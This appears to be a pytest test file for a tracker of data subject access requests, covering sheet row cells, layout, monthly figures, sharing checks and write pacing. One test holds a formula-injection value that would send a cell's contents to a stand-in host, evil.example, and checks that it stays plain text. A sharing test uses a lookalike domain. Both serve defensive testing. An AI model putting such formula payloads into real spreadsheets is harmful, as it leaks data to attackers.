"""The tracker's pure parts: row cells, sheet layout requests, monthly figures, sharing rules, pacing."""
from __future__ import annotations

import datetime as dt

import pytest

from addon.cases.lifecycle import STATUSES
from addon.tracker import schema
from addon.tracker.schema import COLUMNS, RowFacts, row_cells
from addon.tracker.sharing import TrackerSharingError, check_sharing, sharing_problems
from addon.tracker.writer import WritePacer, _runs

D = dt.date


def facts(**kw) -> RowFacts:
    base = dict(ref="DSAR-2026-0001", type="access", subject="Jane Doe", received=D(2026, 3, 2),
                clock_start=D(2026, 3, 2), due=D(2026, 4, 2), extended_due=D(2026, 6, 2), extended=False,
                status="review", assignee="dpo@example.test", counts={"gmail": 3, "drive": 1, "sheets": 2})
    base.update(kw)
    return RowFacts(**base)


def test_row_has_every_owned_column_and_never_notes():
    cells = row_cells(facts())
    assert list(cells) == list(schema.OWNED)
    assert "Notes" not in cells


def test_cells_are_strings_or_numbers_and_dates_are_serials():
    cells = row_cells(facts(closed=D(2026, 3, 20)))
    for col, v in cells.items():
        assert isinstance(v, (str, int, float)) and not isinstance(v, bool), col
    assert cells["Received"] == (D(2026, 3, 2) - D(1899, 12, 30)).days == 46083
    assert schema.from_serial(cells["Due"]) == D(2026, 4, 2)
    assert schema.from_serial(cells["Closed"]) == D(2026, 3, 20)
    assert cells["Items found (Gmail)"] == 3 and cells["Items found (Sheets)"] == 2


def test_formula_like_subject_is_kept_as_plain_text():
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row_cells(facts(subject=hostile))["Subject"] == hostile


def test_extended_due_shows_only_once_extended():
    assert row_cells(facts())["Extended due"] == ""
    assert schema.from_serial(row_cells(facts(extended=True))["Extended due"]) == D(2026, 6, 2)


def test_shredded_case_shows_no_identifiers_or_counts():
    cells = row_cells(facts(subject=None, counts=None))
    assert cells["Subject"] == "(identifiers erased)" and cells["Items found (Drive)"] == ""


def test_action_names_the_next_command():
    assert "dsar export DSAR-2026-0001" in schema.action(facts())
    before = schema.action(facts())  # review comes before the package
    assert "dsar review DSAR-2026-0001" in before
    assert before.index("dsar review DSAR-2026-0001") < before.index("dsar export DSAR-2026-0001")
    assert "responded" in schema.action(facts(exported=True))
    assert "dsar case resume" in schema.action(facts(paused_since=D(2026, 3, 5)))
    during = D(2026, 3, 20)
    assert "extension possible" in schema.action(facts(), during) and "2026-04-02" in schema.action(facts(), during)
    assert "extension possible" not in schema.action(facts(extended=True), during)


def test_every_status_has_an_action():
    during = D(2026, 3, 20)
    for status in STATUSES:
        assert schema.action(facts(status=status), during).strip(), status


def test_extension_is_offered_only_while_the_first_month_runs():
    """The notice must reach the subject within the first month (Art. 12(3)); CaseClock.extend refuses later."""
    due = D(2026, 4, 2)
    assert "extension possible" in schema.action(facts(), due)  # the last day of the first month
    assert "extension possible" not in schema.action(facts(), due + dt.timedelta(days=1))
    assert "extension possible" not in row_cells(facts(), D(2026, 5, 1))["Action"]
    moved = facts(due=D(2026, 4, 8))  # a closed pause moved the first month's end
    assert "extension possible" in schema.action(moved, D(2026, 4, 6))


def test_layout_protects_header_validates_status_and_highlights_deadlines():
    reqs = schema.layout_requests(7, 9, ["DPO@Example.test"])
    kinds = [next(iter(r)) for r in reqs]
    prot = next(r["addProtectedRange"]["protectedRange"] for r in reqs if "addProtectedRange" in r)
    assert prot["warningOnly"] is False and prot["editors"]["users"] == ["dpo@example.test"]
    assert prot["range"] == {"sheetId": 7, "startRowIndex": 0, "endRowIndex": 1}
    dv = next(r["setDataValidation"] for r in reqs if "setDataValidation" in r)
    assert dv["rule"]["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in dv["rule"]["condition"]["values"]] == list(STATUSES)
    assert dv["range"]["startColumnIndex"] == COLUMNS.index("Status")
    rules = [r["addConditionalFormatRule"]["rule"] for r in reqs if "addConditionalFormatRule" in r]
    formulas = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
    assert all(r["booleanRule"]["condition"]["type"] == "CUSTOM_FORMULA" for r in rules)
    assert "<TODAY()" in formulas[0] and '$H2<>"closed"' in formulas[0] and '$H2<>"responded"' in formulas[0]
    assert "-TODAY()<=7" in formulas[1]
    assert kinds.count("updateSheetProperties") == 2


def test_monthly_counts_on_time_late_overdue_and_extensions():
    def answered(day):
        return ({"to_status": "review", "at": "2026-03-03T10:00:00+00:00"},
                {"to_status": "responded", "at": f"{day}T10:00:00+00:00"})
    rows = schema.monthly_rows([
        facts(ref="A", status="responded", history=answered("2026-04-01")),           # on time
        facts(ref="B", status="responded", history=answered("2026-04-03")),           # late by a day
        facts(ref="C", status="review"),                                                # open, overdue
        facts(ref="D", status="closed", extended=True, history=answered("2026-05-20")),  # on time (extended)
        facts(ref="E", received=D(2026, 4, 10), clock_start=D(2026, 4, 10), due=D(2026, 5, 11)),
    ], today=D(2026, 4, 20))
    assert rows[0] == list(schema.MONTHLY_COLUMNS)
    assert rows[1][:7] == ["2026-04", 1, 0, 0, "", 0, 0] and rows[1][7:] == [1, 0, 0, 0, 0, 0]  # by type: access
    assert rows[2][:7] == ["2026-03", 4, 3, 2, round(2 / 3, 4), 1, 1]
    assert all(isinstance(c, (str, int, float)) for r in rows for c in r)


def test_sharing_allows_only_the_organisation():
    ok = [{"type": "user", "role": "owner", "emailAddress": "dpo@example.test"},
          {"type": "domain", "role": "reader", "domain": "Example.test"},
          {"type": "group", "role": "writer", "emailAddress": "privacy@example.test"}]
    assert sharing_problems(ok, "example.test") == []
    bad = ok + [{"type": "anyone", "role": "reader", "id": "anyoneWithLink"},
                {"type": "domain", "role": "reader", "domain": "example.test.evil.com"},
                {"type": "user", "role": "writer", "emailAddress": "someone@gmail.com"}]
    problems = sharing_problems(bad, "example.test")
    assert len(problems) == 3 and "anyone with the link" in problems[0]
    with pytest.raises(TrackerSharingError) as e:
        check_sharing(bad, "SHEET1", "example.test")
    assert "General access" in str(e.value) and "Restricted" in str(e.value) and "someone@gmail.com" in str(e.value)


def test_pacer_keeps_any_window_under_the_limit():
    now = [0.0]
    pacer = WritePacer(limit=50, window=60.0, clock=lambda: now[0], sleep=lambda s: now.__setitem__(0, now[0] + s))
    stamps = []
    for _ in range(130):
        pacer.acquire("dpo@example.test")
        stamps.append(now[0])
        now[0] += 0.01
    for i, t in enumerate(stamps):
        assert sum(1 for u in stamps if t <= u < t + 60.0) <= 50, i
    assert stamps[-1] >= 120.0  # 130 writes need at least two full windows of waiting
    other = WritePacer(limit=1, window=60.0, clock=lambda: 0.0, sleep=lambda s: pytest.fail("other users wait"))
    other.acquire("a@example.test")
    other.acquire("b@example.test")


def test_runs_groups_contiguous_columns():
    assert _runs([0, 1, 2, 5, 7, 8]) == [(0, 2), (5, 5), (7, 8)]
